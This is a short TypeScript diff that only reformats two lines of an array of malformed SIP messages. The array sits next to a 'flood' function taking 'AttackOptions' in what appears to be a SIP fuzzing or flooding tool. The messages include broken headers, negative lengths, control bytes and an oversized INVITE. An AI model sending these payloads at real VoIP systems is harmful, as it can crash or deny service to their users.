@@ -156,8 +156,10 @@ export function flood(o: AttackOptions & { method?: string }): Traffic {
 const MALFORMED: readonly ((source: Endpoint, n: number) => string | Uint8Array)[] = [
   (_, n) => Buffer.from([0xff, 0xfe, n & 255, 0x00, 0x7f, 0x80, 0x01, 0x02, 0x90, 0x90, 0x90, 0x90]),
   (s, n) => `INVITE sip:1001@host\r\nVia: ${s.host}\r\nCSeq: ${n} INVITE\r\n\r\n`,
-  (s) => `OPTIONS sip:a@b SIP/2.0\r\nVia: SIP/2.0/UDP ${s.host};branch=z9hG4bK1\r\nFrom: <sip:x@y\r\nTo: >\r\nCSeq: -1 FOO\r\n\r\n`,
-  (s, n) => `REGISTER sip:a SIP/7.0\r\nVia: SIP/2.0/UDP ${s.host};branch=z9hG4bK${n}\r\nCSeq: 99999999999 REGISTER\r\n\r\n`,
+  (s) =>
+    `OPTIONS sip:a@b SIP/2.0\r\nVia: SIP/2.0/UDP ${s.host};branch=z9hG4bK1\r\nFrom: <sip:x@y\r\nTo: >\r\nCSeq: -1 FOO\r\n\r\n`,
+  (s, n) =>
+    `REGISTER sip:a SIP/7.0\r\nVia: SIP/2.0/UDP ${s.host};branch=z9hG4bK${n}\r\nCSeq: 99999999999 REGISTER\r\n\r\n`,
   (_, n) => `INVITE ${'A'.repeat(900 + (n % 100))}`,
   (s) => `INVITE sip:1001@b SIP/2.0\r\nVia: SIP/2.0/UDP ${s.host}\r\n\x00\x01\x02: \x03\r\nContent-Length: -5\r\n\r\n`,
 ];
